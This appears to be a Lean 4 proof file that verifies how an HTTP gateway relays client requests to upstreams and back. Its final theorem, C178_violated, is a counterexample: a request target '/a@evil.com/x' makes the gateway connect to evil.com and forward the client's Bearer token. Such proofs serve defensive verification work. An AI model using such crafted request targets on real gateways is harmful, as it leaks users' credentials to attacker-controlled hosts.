import Verif.Props.HubBody
import Verif.Props.Relay
/-!
# C178: from the document and the bytes of all clients to the bytes of all upstreams, and back
-/
namespace J8a
open Go Uri

variable {K : Type}

/-- A request came to a gateway started with the settings as this message of its client. -/
structure CameAs (B : Machinery K) (src : Sources) (t : Settings) (served : Str → List (Jwk K) → Prop) (x : Setup K)
    (m : HttpRequest) : Prop where
  running : Running B src served x
  /-- the bytes of the client, from where the request begins -/
  bytes : ∃ stream rest rest', ReadsIncoming stream m rest ∧ Arrives stream x.rq rest'
  acceptable : Acceptable m
  bare : HeadBare m
  short : m.body.length < 2 ^ 63
  fits : (m.body.length : Int) ≤ x.maxBody
  connect : toUpper m.method ≠ "CONNECT".toList
  origin : Originates t m.target
  breaks : ∀ r ∈ t.routes, r.transform = ['/'] → ∀ rest, m.target = r.path ++ rest →
    rest = [] ∨ rest.head? = some '/' ∨ rest.head? = some '?'

/-- What a gateway is started with, and what the libraries around it are assumed to do. -/
structure Started (B : Machinery K) (src : Sources) (t : Settings) (served : Str → List (Jwk K) → Prop) : Prop where
  sort : IsRouteSort B.srt
  engine : ∀ r ∈ t.routes, FollowsPath B.E r.path
  write : src.Write B.yamlToJson t
  plain : t.Plain
  fetch : ∀ n url ks, B.fetch n url = some ks → served url ks

theorem put_relays {B : Machinery K} {src : Sources} {t : Settings} {served : Str → List (Jwk K) → Prop} (hB : Started B src t served)
    {A : Around K} {g : Hub K} (h : g.Reached A) {j i : Nat} {q : UpReq} {k : Task K} {m : HttpRequest} (hk : g.tasks[j]? = some k)
    (hq : (i, q) ∈ k.s.calls) (hm : CameAs B src t served k.x m) {keys : List Str} (he : Enumerates keys (credited q).header) {bytes : Str}
    (hb : writeRequest keys (credited q) = some bytes) :
    ∃ m' : HttpRequest, t.Relays B.X B.hmacKey served k.x.L k.x.pick k.x.now m m' ∧
      ∀ more, ReadsRequest (bytes ++ more) m' more ∧ ∀ m'' r, ReadsRequest (bytes ++ more) m'' r → m'' = m' ∧ r = more := by
  obtain ⟨stream, rest, rest', h1, h2⟩ := hm.bytes
  exact C170_relayed_partial B hB.sort src t hB.engine hB.write hB.plain served hB.fetch k.x hm.running stream rest m h1 hm.acceptable
    hm.bare hm.short hm.fits hm.connect hm.origin hm.breaks rest' h2 k.s (C174_alone A g h k (List.mem_of_getElem? hk)).2.1 (i, q) hq
    keys he bytes hb

/-- C178, part, on the way to the upstreams: a gateway is started with the settings `t`, and any number of clients send it
messages. Then an upstream reads on a connection one message for each request that was put there, in their order, and maybe a
part of the last one, and there is no other way to read it; each of these messages is the one that the settings make of the
message of one of the clients. Missing: what C170_relayed_partial leaves out; see C170_violated and C175_violated_always. -/
theorem C178_requests_partial (B : Machinery K) (src : Sources) (t : Settings) (served : Str → List (Jwk K) → Prop)
    (hB : Started B src t served) (A : Around K) (hc : ∀ x, A.comes x → ∃ m, CameAs B src t served x m) (g : Hub K) (h : g.Reached A)
    (l : Line) (hl : l ∈ g.lines) :
    ∃ (ms : List HttpRequest) (part : Str),
      (ms.length = l.puts.length ∧ part = [] ∨ ms.length + 1 = l.puts.length ∧ l.cut = true ∧
        ∃ p, l.puts[ms.length]? = some p ∧ part <+: p.2) ∧
      (∀ (n : Nat) m', ms[n]? = some m' → ∃ (p : Nat × Str) (j i : Nat) (q : UpReq) (k : Task K) (m : HttpRequest), l.puts[n]? = some p ∧
        g.asks[p.1]? = some (j, i, q) ∧ g.tasks[j]? = some k ∧ l.key = A.keyOf q.uri ∧ CameAs B src t served k.x m ∧
        t.Relays B.X B.hmacKey served k.x.L k.x.pick k.x.now m m') ∧
      ∀ more, ReadsEach (l.wrote ++ more) ms (part ++ more) ∧
        ∀ ms' rest, ReadsEach (l.wrote ++ more) ms' rest → ms'.length = ms.length → ms' = ms ∧ rest = part ++ more := by
  obtain ⟨k, hk⟩ := List.mem_iff_getElem?.1 hl
  have hline := (Hub.inv h).lines k l hk
  obtain ⟨ms, part, h1, h2, h3⟩ := line_reads hline (P := fun p m' => ∃ (j i : Nat) (q : UpReq) (k : Task K) (m : HttpRequest),
    g.asks[p.1]? = some (j, i, q) ∧ g.tasks[j]? = some k ∧ l.key = A.keyOf q.uri ∧ CameAs B src t served k.x m ∧
      t.Relays B.X B.hmacKey served k.x.L k.x.pick k.x.now m m') (by
      intro p hp
      obtain ⟨j, i, q, keys, ⟨k1, k, k2, k3⟩, k4, k5, k6⟩ := hline.puts p hp
      obtain ⟨m, hm⟩ := hc _ (C174_alone A g h k (List.mem_of_getElem? k2)).1
      obtain ⟨m', g1, g2⟩ := put_relays hB h k2 k3 hm k4 k5
      exact ⟨m', ⟨j, i, q, k, m, k1, k2, k6, hm, g1⟩, g2⟩)
  refine ⟨ms, part, h1, fun n m hm => ?_, h3⟩
  obtain ⟨p, k1, j, i, q, t, m, k2⟩ := h2 n m hm
  exact ⟨p, j, i, q, t, m, k1, k2⟩

/-- What was written before a request and for it. -/
theorem wrote_at {A : Around K} {g : Hub K} {l : Line} (hl : LineInv A g l) {n : Nat} {p : Nat × Str} (hp : l.puts[n]? = some p) :
    (∃ more, l.wrote = ((l.puts.take n).map Prod.snd).flatten ++ (p.2 ++ more)) ∨ l.cut = true ∧ n + 1 = l.puts.length := by
  have split : ∀ ps : List (Nat × Str), ps[n]? = some p →
      (ps.map Prod.snd).flatten = ((ps.take n).map Prod.snd).flatten ++ (p.2 ++ ((ps.drop (n + 1)).map Prod.snd).flatten) := by
    intro ps hps
    obtain ⟨hlt, e⟩ := List.getElem?_eq_some_iff.1 hps
    have hd := List.drop_eq_getElem_cons hlt
    rw [e] at hd
    rw [← List.flatten_cons, ← List.map_cons, ← hd, ← List.flatten_append, ← List.map_append, List.take_append_drop]
  rcases hl.wrote with ⟨-, h2⟩ | ⟨h1, -, ps, p', w, h2, -, h4⟩
  · exact .inl ⟨_, by rw [h2]; exact split _ hp⟩
  · rcases Nat.lt_or_ge n ps.length with hn | hn
    · rw [h2, List.getElem?_append_left hn] at hp
      refine .inl ⟨((ps.drop (n + 1)).map Prod.snd).flatten ++ w, ?_⟩
      rw [h4, split _ hp, h2, List.take_append_of_le_length (by omega), List.append_assoc, List.append_assoc]
    · have := (List.getElem?_eq_some_iff.1 hp).1
      exact .inr ⟨h1, by rw [h2] at this ⊢; simp at this ⊢; omega⟩

/-- C178, part, there and back: a gateway is started with the settings `t`, any number of clients send it messages, and the
upstreams send one well-formed answer to each request (`SoundUpstreams`). A client that sent `m` and
gets a response with a status below 400 reads a message `m2'`; there is a connection on which, at some place, the upstream reads
the message `m'` that the settings make of `m`, or it is the last one and the upstream answered before it came to its end; its
answer at the same place is the message `m2`; and `m2'` has the status and the fields of `m2`, apart from `changedReplyFields`,
and the same body, if what `m2` says about its coding is true. Missing: what C170_relayed_partial and C177_message_partial
leave out; see C178_violated and C177_violated. -/
theorem C178_exchange_partial (B : Machinery K) (src : Sources) (t : Settings) (served : Str → List (Jwk K) → Prop)
    (hB : Started B src t served) (A : Around K) (g : Hub K) (h : g.Reached A) (hp : SoundUpstreams g) (j : Nat) (k : Task K)
    (hk : g.tasks[j]? = some k) (m : HttpRequest) (hcm : CameAs B src t served k.x m) (ho : k.x.ReachesOrderly k.s)
    (hf : ∃ r u l, k.x.dec = .forward r u l) (hd : k.s.pc = .done) (y : Sent) (hy : y ∈ k.s.sent) (hs : y.status < 400)
    (hi : TextIds k.x) (hm : toUpper k.x.rq.method = "HEAD".toList → k.x.rq.method = "HEAD".toList) (c : ReplyConn) (hcn : ConnOf k.x c)
    (keys : List Str) (hk' : Enumerates keys y.header) :
    ∃ (m' : HttpRequest) (m2 m2' : HttpResponse) (l : Line) (n : Nat) (p : Nat × Str) (as : List Str) (a : Str) (i : Nat),
      t.Relays B.X B.hmacKey served k.x.L k.x.pick k.x.now m m' ∧ l ∈ g.lines ∧
      l.puts[n]? = some p ∧ (∀ more, ReadsRequest (p.2 ++ more) m' more ∧ ∀ m'' r, ReadsRequest (p.2 ++ more) m'' r → m'' = m' ∧ r = more) ∧
      ((∃ more, l.wrote = ((l.puts.take n).map Prod.snd).flatten ++ (p.2 ++ more)) ∨ l.cut = true ∧ n + 1 = l.puts.length) ∧
      Answers l.c as ∧ as[n]? = some a ∧ i ≤ 5 ∧ ReadsFinal m'.method i a m2 [] ∧ ReadAs k.x (writeResponse c keys y) y m2' ∧
      m2'.status = m2.status ∧
      (∀ f, f.all isTokenChar = true → f ≠ [] → toLower f ∉ changedReplyFields →
        fieldValues m2'.fields (toLower f) = fieldValues m2.fields (toLower f)) ∧
      (k.x.sv.codec.Lossless → Agrees A.T k.x.sv.codec → ∃ (q : UpReq) (w : WireResp), (k.s.cur, q) ∈ k.s.calls ∧
        bodyText w.body = m2.body ∧
        (NoBody m'.method m2.status → m2'.body = [] ∧ m2.body = []) ∧
        (¬ NoBody m'.method m2.status → w.up.Truthful →
          (contains (k.x.rq.header.get "Accept-Encoding".toList) "gzip".toList = true →
            codingOf (fieldValues m2.fields "content-encoding".toList) = .identity ∨
            codingOf (fieldValues m2.fields "content-encoding".toList) = .gzip) →
          (Decoded q w → hasGzipMagic (A.T.gunzip w.body).1 = false) →
          ∃ b', bodyText b' = m2'.body ∧
            entity k.x.sv.codec (codingOf (fieldValues m2'.fields "content-encoding".toList)) b' =
              entity k.x.sv.codec (codingOf (fieldValues m2.fields "content-encoding".toList)) w.body)) := by
  obtain ⟨q, l, n, e, bytes, as, a, i, m2, m2', h1, h2, h3, h4, h5, ⟨ks, h6, h6'⟩, h7, h8, h9, h10, h11, h12, h13, h14⟩ :=
    C177_message_partial A g h hp j k hk ho hf hd y hy hs hi hm c hcn keys hk'
  obtain ⟨m', g1, g2⟩ := put_relays hB h hk h1 hcm h6 h6'
  obtain ⟨stream, rest, rest', b1, b2⟩ := hcm.bytes
  have d1 := (C165_delivered_partial stream rest m b1 hcm.acceptable hcm.bare hcm.short k.x.rq rest' b2).1
  have hmeth : q.method = m'.method := by
    obtain ⟨r, v, lb, -, hq⟩ := calls_of_reaches (C174_alone A g h k (List.mem_of_getElem? hk)).2.1 h1
    have hq' : q = _ := hq
    rw [g1.method, hq', ← d1]
    rfl
  obtain ⟨z, hz⟩ := List.mem_iff_getElem?.1 h2
  refine ⟨m', m2, m2', l, n, (e.tag, bytes), as, a, i, g1, h2, h4, g2, wrote_at ((Hub.inv h).lines z l hz) h4, h7, h8, h9,
    by rw [← hmeth]; exact h10, h11, h12, h13, fun c1 c2 => ?_⟩
  rw [← hmeth]
  exact ⟨q, e.w, h1, h14 c1 c2 (by rw [d1]; exact hcm.connect)⟩

/-! ## An example -/

theorem Demo.started : Started (exGateway "/z") { env := "…".toList } (exSettings "/z") (fun _ _ => False) :=
  ⟨exSort_isSort, exGateway_follows _, exGateway_written (.inl rfl), exSettings_plain (by decide +kernel), fun _ _ _ h => nomatch h⟩

theorem Demo.written_came {target : String} (ht : target.toList ≠ [] ∧ ∀ c ∈ target.toList, 0x20 < c.toNat ∧ c.toNat ≠ 0x7f)
    (h1 : (requestUrl "get".toList target.toList).isSome = true)
    (h2 : readHead (Demo.tokenText target) =
      some (⟨"get".toList, target.toList, (1, 1), [("Authorization".toList, ["Bearer v".toList])], .sized 0⟩, []))
    (h3 : OriginForm target.toList) :
    CameAs (exGateway "/z") { env := "…".toList } (exSettings "/z") (fun _ _ => False) (Demo.written "/z" target) (Demo.tokenMessage target) where
  running := Demo.written_running (.inl rfl) _
  bytes := by
    have := Demo.token_reads ht []
    rw [List.append_nil] at this
    exact ⟨_, _, _, this, Demo.token_arrives h1 h2⟩
  acceptable := (Demo.token_acceptable _).1
  bare := (Demo.token_acceptable _).2
  short := by show 0 < 2 ^ 63; decide
  fits := by show (0 : Int) ≤ (Demo.written "/z" "/").maxBody; decide +kernel
  connect := by show toUpper "get".toList ≠ _; decide
  origin := fun _ _ _ => h3
  breaks := by
    intro r hr ht
    obtain rfl := List.mem_singleton.1 hr
    exact absurd ht (by decide)

/-- Two clients of a gateway that was started with a document. -/
def Demo.writtenAround : Around Nat where
  T := Demo.lib
  keyOf := fun _ => "up".toList
  comes := fun x => x = Demo.written "/z" "/a/b?c" ∨ x = Demo.written "/z" "/a/d"

theorem Demo.writtenAround_came (x : Setup Nat) (h : Demo.writtenAround.comes x) :
    ∃ m, CameAs (exGateway "/z") { env := "…".toList } (exSettings "/z") (fun _ _ => False) x m := by
  rcases h with rfl | rfl
  · exact ⟨_, Demo.written_came (by decide) (by decide +kernel) (by decide +kernel)
      ⟨"a/b".toList, by decide +kernel, .inr ⟨"c".toList, by decide +kernel, by decide⟩⟩⟩
  · exact ⟨_, Demo.written_came (by decide) (by decide +kernel) (by decide +kernel) ⟨"a/d".toList, by decide +kernel, .inl rfl⟩⟩

theorem Demo.twice_answered (c : UpConn) (h1 : c.asked = [⟨0, "GET".toList, 0, 0⟩,
    ⟨1, "GET".toList, Demo.evilText.length, Demo.evilText.length⟩])
    (h2 : c.arrived = Demo.evilText ++ Demo.evilText) : Answers c [Demo.evilText, Demo.evilText] := by
  refine ⟨by rw [h1]; rfl, by rw [h2]; exact ⟨[], by simp⟩, ?_, ?_⟩
  · intro i q hq
    rw [h1] at hq
    match i, hq with
    | 0, hq => rw [← Option.some.inj hq]; rfl
    | 1, hq => rw [← Option.some.inj hq]; simp
    | n + 2, hq => simp at hq
  · intro i q a hq ha
    rw [h1] at hq
    rcases i with _ | _ | n
    · simp only [List.getElem?_cons_zero, Option.some.injEq] at hq ha
      subst hq ha
      exact ⟨0, _, by decide, Demo.evil_reads⟩
    · simp only [List.getElem?_cons_succ, List.getElem?_cons_zero, Option.some.injEq] at hq ha
      subst hq ha
      exact ⟨0, _, by decide, Demo.evil_reads⟩
    · simp at hq

/-- The hypotheses of `C178_requests_partial` and `C178_exchange_partial` are satisfiable: the requests of two clients on one
connection, and the answers to both. -/
example : ∃ (g : Hub Nat) (t : Task Nat) (l : Line) (y : Sent), g.Reached Demo.writtenAround ∧ g.lines = [l] ∧ l.puts.length = 2 ∧
    l.cut = false ∧ SoundUpstreams g ∧ g.tasks[1]? = some t ∧
    g.tasks.length = 2 ∧ t.x.ReachesOrderly t.s ∧ (∃ r u l, t.x.dec = .forward r u l) ∧ t.s.pc = .done ∧ y ∈ t.s.sent ∧
    y.status < 400 ∧ TextIds t.x ∧ (toUpper t.x.rq.method = "HEAD".toList → t.x.rq.method = "HEAD".toList) ∧ ConnOf t.x Demo.conn := by
  obtain ⟨s1, q1, b1, h1, c1, m1, g1, n1, w1, -, -⟩ := Demo.calls (x := Demo.written "/z" "/a/b?c") (method := "GET".toList)
    (hw := (⟨by decide, by decide⟩ : Entries.WF [("Authorization".toList, ["Bearer v".toList])])) (h := by decide +kernel)
  obtain ⟨s2, q2, b2, h2, c2, m2, g2, n2, w2, -, -⟩ := Demo.calls (x := Demo.written "/z" "/a/d") (method := "GET".toList)
    (hw := (⟨by decide, by decide⟩ : Entries.WF [("Authorization".toList, ["Bearer v".toList])])) (h := by decide +kernel)
  have quiet : ∀ a ∈ [Demo.go, Act.hgCall 0], ∀ i r, a ≠ .hgReturn i (some r) := by simp
  have r1 := (Hub.Reached.new (A := Demo.writtenAround)).step (.accept (Demo.written "/z" "/a/b?c") (.inl rfl))
    |>.step (.accept (Demo.written "/z" "/a/d") (.inr rfl)) |>.acts (j := 0) rfl h1 quiet (by simp)
  have r3 := (r1.acts (j := 1) rfl h2 quiet (by simp)).step (.dial "up".toList)
  obtain ⟨t1, l1, r4, x1, a1, -, -, v1, k1, -, p1, -, e1⟩ := exchange r3 (j := 0) rfl (i := 0) (q := q1) (by simp [c1]) g1 (k := 0) rfl
    rfl rfl rfl rfl rfl n1 w1 (by rw [m1]; exact Demo.evil_receives) (by decide) (by decide +kernel)
  replace e1 : l1.c = ⟨Demo.evilText, Demo.evilText.length, false, true, none,
      [⟨⟨0, "GET".toList, 0, 0⟩, Demo.evilText.length, Demo.evilWire⟩]⟩ := by rw [e1, m1]; rfl
  obtain ⟨t2, l2, r5, x2, a2, o2, i2, v2, k2, -, p2, u2, e2⟩ := exchange r4 (j := 1) rfl (i := 0) (q := q2) (by simp [c2]) g2 (k := 0) rfl
    (by rw [k1]; rfl) (by rw [e1]) (by rw [e1]) (by rw [e1]) (by rw [e1])
    n2 w2 (by rw [m2]; exact Demo.evil_receives) (by decide) (by decide +kernel)
  have hz : decompress Demo.writtenAround.T q2 Demo.evilWire = Demo.evilWire :=
    decompress_neg fun hz => absurd hz.2.2.2 (by decide +kernel)
  obtain ⟨s, hs, hp⟩ := Demo.of_check (x := Demo.written "/z" "/a/d") (as := Demo.success Demo.evilWire.up)
    (p := fun s => (Demo.seen s).finished && s.sent.map (fun y => (y.status, y.body)) == [(200, "evil".toUTF8.toList)]) (by decide +kernel)
  simp only [Bool.and_eq_true, beq_iff_eq] at hp
  have hr : run t2.x.env (initial t2.x.dec) t2.acts = some t2.s := ((Hub.inv r5).runs 1 t2 rfl).2
  have hrun : run t2.x.env t2.s (Demo.success Demo.evilWire.up |>.drop 3) = some s := by
    rw [← run_append hr, x2, a2, hz]
    exact hs
  have r6 := r5.acts (j := 1) rfl hrun (by simp [Demo.success, Demo.attempt, Demo.headers, Demo.body]) (fun i hi => by
    have : i = 0 := by simpa [Demo.success, Demo.attempt, Demo.headers, Demo.body] using hi
    subst this
    exact ⟨_, by rw [o2]; exact List.mem_append_right _ (List.mem_singleton.2 rfl), by rw [hz]; rfl, i2, v2⟩)
  replace e2 : l2.c = ⟨Demo.evilText ++ Demo.evilText, (Demo.evilText ++ Demo.evilText).length, false, true, none,
      [⟨⟨0, "GET".toList, 0, 0⟩, Demo.evilText.length, Demo.evilWire⟩,
        ⟨⟨1, "GET".toList, Demo.evilText.length, Demo.evilText.length⟩, (Demo.evilText ++ Demo.evilText).length, Demo.evilWire⟩]⟩ := by
    rw [e2, m2, e1]
    rfl
  obtain ⟨y, hy, hyp⟩ := Demo.one_of_map hp.2
  injection hyp with hyp _
  have hx2 : t2.x = Demo.written "/z" "/a/d" := x2
  refine ⟨_, _, l2, y, r6, rfl, by rw [p2, p1]; rfl, u2, ?_, rfl, rfl, ?_, ?_, Demo.done_of_seen hp.1,
    by rw [hy]; exact List.mem_singleton.2 rfl, by rw [hyp]; decide, ?_⟩
  · intro l' hl'
    rw [List.mem_singleton.1 hl', e2]
    refine ⟨_, Demo.twice_answered _ rfl rfl, fun i q a hq ha => ?_⟩
    rcases i with _ | _ | i
    · simp only [List.getElem?_cons_zero, Option.some.injEq] at ha
      subst ha
      obtain rfl : (⟨0, "GET".toList, 0, 0⟩ : Asked) = q := Option.some.inj hq
      exact ⟨0, _, by decide, Demo.evil_reads, fun h => absurd h.2.2 (by decide)⟩
    · simp only [List.getElem?_cons_succ, List.getElem?_cons_zero, Option.some.injEq] at ha
      subst ha
      obtain rfl : (⟨1, "GET".toList, Demo.evilText.length, Demo.evilText.length⟩ : Asked) = q := Option.some.inj hq
      exact ⟨0, _, by decide, Demo.evil_reads, fun h => absurd h.2.2 (by decide)⟩
    · simp at ha
  · show t2.x.ReachesOrderly s
    rw [hx2]
    exact Demo.orderly_success hs
  · show ∃ r u l, t2.x.dec = .forward r u l
    rw [hx2]
    have : (match (Demo.written "/z" "/a/d").dec with | .forward .. => true | _ => false) = true := by decide +kernel
    cases hdec : (Demo.written "/z" "/a/d").dec with
    | forward r u l => exact ⟨r, u, l, rfl⟩
    | respond => rw [hdec] at this; cases this
    | panic => rw [hdec] at this; cases this
  · show TextIds t2.x ∧ (toUpper t2.x.rq.method = "HEAD".toList → t2.x.rq.method = "HEAD".toList) ∧ ConnOf t2.x Demo.conn
    rw [hx2]
    exact ⟨⟨Demo.text_ids.id, Demo.text_ids.version, Demo.text_ids.xrid⟩, fun h => absurd h (by decide), ⟨rfl, Demo.conn_of.text⟩⟩

/-! ## Where it fails -/

/-- C178 is violated: a client of a gateway that was started with a document makes it open a connection to an address that the
document does not name, and write there what the document does not make of any request of this client; the token of the client
is in it. -/
theorem C178_violated : ∃ (A : Around Nat) (g : Hub Nat) (l : Line) (x : Setup Nat) (m : HttpRequest) (stream : Str),
    (exSettings "/").Plain ∧ ({ env := "…".toList } : Sources).Write (exGateway "/").yamlToJson (exSettings "/") ∧
    (A.keyOf = fun u => ((Url.parse u).map Url.host).getD []) ∧ (∀ x', A.comes x' ↔ x' = x) ∧ Running (exGateway "/") { env := "…".toList } (fun _ _ => False) x ∧
    ReadsIncoming stream m [] ∧ Acceptable m ∧ HeadBare m ∧ OriginForm m.target ∧ Arrives stream x.rq (some []) ∧
    g.Reached A ∧ g.lines = [l] ∧ l.key = "evil.com".toList ∧ l.cut = false ∧
    l.wrote = ("GET /x HTTP/1.1\r\nHost: evil.com\r\nUser-Agent: Go-http-client/1.1\r\n" ++
      "X-Request-Id: XR-abc-u\r\nAuthorization: Bearer v\r\nAccept-Encoding: gzip\r\n\r\n").toList ∧
    ∀ m' r, ReadsRequest l.wrote m' r →
      ¬ (exSettings "/").Relays (exGateway "/").X (exGateway "/").hmacKey (fun _ _ => False) x.L x.pick x.now m m' := by
  have hread := Demo.token_reads (target := "/a@evil.com/x") (by decide) []
  rw [List.append_nil] at hread
  have hrun := Demo.written_running (transform := "/") (target := "/a@evil.com/x") (.inr rfl) (fun _ _ => False)
  have harr : Arrives (Demo.tokenText "/a@evil.com/x") (Demo.written "/" "/a@evil.com/x").rq (some []) :=
    Demo.token_arrives (by decide +kernel) (by decide +kernel)
  obtain ⟨s, q, bytes, h1, hc, hg, he, hb, hbytes, hkey, ht⟩ : ∃ (s : St) (q : UpReq) (bytes : Str),
      run (Demo.written "/" "/a@evil.com/x").env (initial (Demo.written "/" "/a@evil.com/x").dec) [Demo.go, .hgCall 0] = some s ∧
      s.calls = [(0, q)] ∧ (s.atmpt 0).hg = .calling ∧
      Enumerates (sentNames (Demo.written "/" "/a@evil.com/x").rq) (credited q).header ∧
      writeRequest (sentNames (Demo.written "/" "/a@evil.com/x").rq) (credited q) = some bytes ∧
      bytes = ("GET /x HTTP/1.1\r\nHost: evil.com\r\nUser-Agent: Go-http-client/1.1\r\n" ++
        "X-Request-Id: XR-abc-u\r\nAuthorization: Bearer v\r\nAccept-Encoding: gzip\r\n\r\n").toList ∧
      ((Url.parse q.uri).map Url.host).getD [] = "evil.com".toList ∧ wireTarget q = some "/x".toList := by
    obtain ⟨s, h1, h2⟩ := Demo.of_check (x := Demo.written "/" "/a@evil.com/x") (as := [Demo.go, .hgCall 0])
      (p := fun s => s.calls.map (fun p => (p.1, writeRequest (sentNames (Demo.written "/" "/a@evil.com/x").rq) p.2, wireTarget p.2,
        p.2.header.get "Authorization".toList, ((Url.parse p.2.uri).map Url.host).getD [])) ==
        [(0, some ("GET /x HTTP/1.1\r\nHost: evil.com\r\nUser-Agent: Go-http-client/1.1\r\n" ++
          "X-Request-Id: XR-abc-u\r\nAuthorization: Bearer v\r\nAccept-Encoding: gzip\r\n\r\n").toList, some "/x".toList,
          "Bearer v".toList, "evil.com".toList)] && (match (s.atmpt 0).hg with | .calling => true | _ => false)) (by decide +kernel)
    simp only [Bool.and_eq_true, beq_iff_eq] at h2
    obtain ⟨h2, h3⟩ := h2
    cases hc : s.calls with
    | nil => rw [hc] at h2; cases h2
    | cons p ps =>
      obtain ⟨i, q⟩ := p
      rw [hc] at h2
      simp only [List.map_cons, List.cons.injEq, Prod.mk.injEq, List.map_eq_nil_iff] at h2
      obtain ⟨⟨rfl, h4, h5, h6, h7⟩, rfl⟩ := h2
      have ho : credited q = q := credited_own (by rw [h6]; decide)
      refine ⟨s, q, _, h1, hc, ?_, ?_, by rw [ho]; exact h4, rfl, h7, h5⟩
      · revert h3
        cases (s.atmpt 0).hg <;> simp
      · rw [ho]
        exact sentNames_enumerates (p := (0, q)) (Demo.reaches h1)
          (⟨by decide, by decide⟩ : Entries.WF [("Authorization".toList, ["Bearer v".toList])]) (by rw [hc]; exact List.mem_cons_self)
  let A : Around Nat := ⟨Demo.lib, fun u => ((Url.parse u).map Url.host).getD [], fun x => x = Demo.written "/" "/a@evil.com/x"⟩
  have r1 := (Hub.Reached.new (A := A)).step (.accept (Demo.written "/" "/a@evil.com/x") rfl) |>.acts (j := 0) rfl h1 (by simp) (by simp)
  have r2 := (r1.step (.dial "evil.com".toList)).step (.ask 0 ⟨Demo.written "/" "/a@evil.com/x", [Demo.go, .hgCall 0], s, []⟩ 0 q 0
    ⟨"evil.com".toList, {}, [], [], false⟩ _ bytes bytes rfl (by simp [hc]) hg rfl hkey.symm rfl rfl he hb (List.prefix_refl _))
  refine ⟨A, _, _, Demo.written "/" "/a@evil.com/x", _, _, exSettings_plain (by decide +kernel), exGateway_written (.inr rfl), rfl,
    fun _ => Iff.rfl, hrun, hread, (Demo.token_acceptable _).1, (Demo.token_acceptable _).2,
    ⟨"a@evil.com/x".toList, by decide +kernel, .inl rfl⟩, harr, r2, rfl, rfl, by simp, by rw [← hbytes]; rfl, ?_⟩
  show ∀ m' r, ReadsRequest bytes m' r → _
  have hn := running_noSpaces exSort_isSort (exGateway_written (.inr rfl)) (exSettings_plain (by decide +kernel)) hrun
  obtain ⟨hwf, ⟨u, hf⟩, -, -, -, -, -, line, proto, hl⟩ := C165_sound_partial _ _ _ harr
  obtain ⟨m1, -, k2, -, -, k5⟩ := C128_http1_partial _ s (Demo.reaches h1) hwf.header hn u hf line proto hl (by decide +kernel)
    (0, q) (by simp [hc]) _ he _ hb
  intro m' r hr hrel
  have := (k5 []).2 m' r (by rw [List.append_nil]; exact hr)
  obtain ⟨rfl, -⟩ := this
  obtain ⟨r, hr, -, -, ⟨rest, e1, e3⟩, -⟩ := hrel.route
  obtain rfl := List.mem_singleton.1 hr
  obtain rfl : "@evil.com/x".toList = rest :=
    List.append_cancel_left (as := "/a".toList) ((by decide : "/a".toList ++ "@evil.com/x".toList = "/a@evil.com/x".toList).trans (e1 (by decide)))
  rw [k2] at ht
  rw [Option.some.inj ht] at e3
  revert e3
  exact (by decide : "/x".toList ≠ RouteSettings.newTarget
    { path := "/a".toList, transform := "/".toList, resource := "r".toList, jwt := "j".toList } "/a@evil.com/x".toList
    "@evil.com/x".toList)

end J8a
